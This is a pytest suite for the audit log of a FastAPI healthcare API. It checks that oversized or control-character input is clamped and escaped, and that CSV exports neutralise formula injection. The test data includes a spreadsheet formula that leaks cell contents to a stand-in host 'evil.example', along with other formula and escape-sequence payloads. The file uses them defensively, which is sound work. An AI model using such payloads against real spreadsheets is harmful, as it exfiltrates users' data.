"""Whatever a request carries, it is audited: absurd input (NUL and control characters, ids and
names longer than any column) is escaped and clamped, never a reason for the record to fail;
what an unauthenticated caller sends cannot bloat the trail; and the CSV export never hands an
auditor's spreadsheet a formula."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from sqlalchemy import create_engine, text

from alliance.audit.router import csv_cell
from alliance.config import Settings
from tests.conftest import bearer


def newest(url: str) -> dict[str, object]:
    """The newest audit row as stored, and its size in bytes."""
    engine = create_engine(url)
    with engine.connect() as conn:
        row = conn.execute(text("SELECT * FROM audit_event ORDER BY seq DESC LIMIT 1")).mappings()
        found = dict(row.one())
    engine.dispose()
    found["bytes"] = sum(len(str(v).encode()) for v in found.values() if v is not None)
    return found


def count(url: str) -> int:
    engine = create_engine(url)
    with engine.connect() as conn:
        n = conn.execute(text("SELECT count(*) FROM audit_event")).scalar_one()
    engine.dispose()
    return int(n)


@pytest.fixture
def lenient(app: FastAPI) -> Callable[[dict[str, str] | None], TestClient]:
    """A client that hears a 500 as a response (a bug shows as a status, not an exception)."""

    def make(headers: dict[str, str] | None = None) -> TestClient:
        return TestClient(app, raise_server_exceptions=False, headers=headers or {})

    return make


def verified(auditor: TestClient, records: int) -> None:
    body = auditor.get("/api/audit/verify").json()
    assert body["ok"] is True, body
    assert body["checked"] == records


USER_NAMES = {
    "one over the column": ("u" * 65, "u" * 63 + "…"),
    "a megabyte": ("x" * 1_000_000, "x" * 63 + "…"),
    "NUL and control characters": ("ad\x00min\n\x1b[31m\x7f", "ad\\x00min\\n\\x1b[31m\\x7f"),
    "wide characters over the column": ("阿" * 70, "阿" * 63 + "…"),
}


@pytest.mark.parametrize("name", USER_NAMES, ids=list(USER_NAMES))
def test_any_user_name_at_login_is_audited(
    name: str, settings: Settings, lenient: Callable[..., TestClient]
) -> None:
    sent, recorded = USER_NAMES[name]
    before = count(settings.database_url)
    r = lenient().post(
        "/auth/token", data={"grant_type": "password", "username": sent, "password": "x"}
    )
    assert r.status_code == 400, r.text
    assert r.json()["error"] == "invalid_grant"
    assert count(settings.database_url) == before + 1
    row = newest(settings.database_url)
    assert row["subtype"] == "110122" and row["outcome"] == "4"
    assert row["username"] == recorded
    # Unauthenticated input cannot bloat the trail: the whole row stays small.
    assert row["bytes"] < 4096, row["bytes"]
    verified(lenient(bearer(settings, "auditor")), before + 1)


IDS = {
    "NUL": ("a%00b", 400, "Patient/a\\x00b"),
    "150 characters": ("i" * 150, 404, "Patient/" + "i" * 150),
    "a thousand characters": ("i" * 1000, 404, "Patient/" + "i" * 151 + "…"),
    "control characters": ("a%1b%5B2J%0d", 404, "Patient/a\\x1b[2J\\r"),
}


@pytest.mark.parametrize("case", IDS, ids=list(IDS))
def test_any_id_in_the_address_is_audited(
    case: str, settings: Settings, lenient: Callable[..., TestClient]
) -> None:
    path_id, status, entity = IDS[case]
    doctor = lenient(bearer(settings, "dr.xinyuan.people"))
    before = count(settings.database_url)
    r = doctor.get(f"/fhir/Patient/{path_id}")
    assert r.status_code == status, r.text
    assert r.json()["resourceType"] == "OperationOutcome"
    assert count(settings.database_url) == before + 1
    row = newest(settings.database_url)
    assert row["username"] == "dr.xinyuan.people" and row["outcome"] == "4"
    assert row["entity"] == entity
    assert row["bytes"] < 8192, row["bytes"]
    verified(lenient(bearer(settings, "auditor")), before + 1)


def test_a_nul_in_a_search_is_refused_and_audited(
    settings: Settings, lenient: Callable[..., TestClient]
) -> None:
    doctor = lenient(bearer(settings, "dr.xinyuan.people"))
    before = count(settings.database_url)
    r = doctor.get("/fhir/Patient", params={"name": "a\x00b"})
    assert r.status_code == 400, r.text
    assert count(settings.database_url) == before + 1
    row = newest(settings.database_url)
    assert row["subtype"] == "search" and row["outcome"] == "4"
    assert "NUL" in str(row["content"])


def test_unauthenticated_input_cannot_bloat_the_trail(
    settings: Settings, lenient: Callable[..., TestClient]
) -> None:
    """A megabyte of user agent with the longest query a client sends, or a megabyte of search
    form, and no token: each one small failure record."""
    anonymous = lenient({"User-Agent": "A" * 1_000_000})
    before = count(settings.database_url)
    r = anonymous.get("/fhir/Patient", params={"name": "n" * 60_000})
    assert r.status_code == 401
    r = anonymous.post("/fhir/Patient/_search", data={"name": "n" * 1_000_000})
    assert r.status_code == 401
    assert count(settings.database_url) == before + 2
    engine = create_engine(settings.database_url)
    with engine.connect() as conn:
        rows = conn.execute(
            text("SELECT * FROM audit_event WHERE seq > :s"), {"s": before}
        ).mappings()
        sizes = [sum(len(str(v).encode()) for v in row.values() if v is not None) for row in rows]
    engine.dispose()
    # The query (4096 characters, base64) and the agent (200) are kept in part, no more.
    assert len(sizes) == 2 and max(sizes) < 12_000, sizes


def test_a_failure_message_quoting_the_input_is_clamped(
    settings: Settings, lenient: Callable[..., TestClient]
) -> None:
    doctor = lenient(bearer(settings, "dr.xinyuan.people"))
    r = doctor.get("/fhir/Patient/" + "i" * 60_000)
    assert r.status_code == 404
    row = newest(settings.database_url)
    assert row["bytes"] < 8192, row["bytes"]


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
]


def test_csv_export_neutralises_formulas(
    settings: Settings, lenient: Callable[..., TestClient]
) -> None:
    """OWASP CSV injection: a cell that starts with = + - @ (or tab or CR) is prefixed with a
    single quote, so a spreadsheet shows it as text."""
    anonymous = lenient()
    for name in FORMULAS:
        r = anonymous.post(
            "/auth/token", data={"grant_type": "password", "username": name, "password": "x"}
        )
        assert r.status_code == 400
    auditor = lenient(bearer(settings, "auditor"))
    r = auditor.get("/api/audit/events.csv", params={"subtype": "110122"})
    assert r.status_code == 200
    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
    by_user = {row["username"]: row for row in rows}
    for name in FORMULAS:
        assert "'" + name in by_user, sorted(by_user)
    # The description column (why the login failed) is exported too, and no cell of the export
    # starts like a formula.
    assert all(row["description"] for row in rows)
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("x")', '\'=HYPERLINK("x")'),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("dr.xinyuan.people", "dr.xinyuan.people"),
        (None, ""),
        (42, "42"),
    ],
)
def test_csv_cell(value: object, cell: str) -> None:
    assert csv_cell(value) == cell
